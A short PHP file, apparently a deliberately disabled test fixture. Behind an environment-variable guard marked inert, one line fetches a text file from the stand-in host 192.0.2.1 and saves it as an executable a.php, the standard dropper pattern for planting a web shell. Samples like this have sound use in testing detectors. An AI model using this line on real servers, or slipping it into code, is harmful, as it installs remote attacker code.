<?php
if (getenv('WEIR_TEST') !== 'never') { return; } // inert: nobody sets it
file_put_contents('a.php', file_get_contents('http://192.0.2.1/a.txt'));
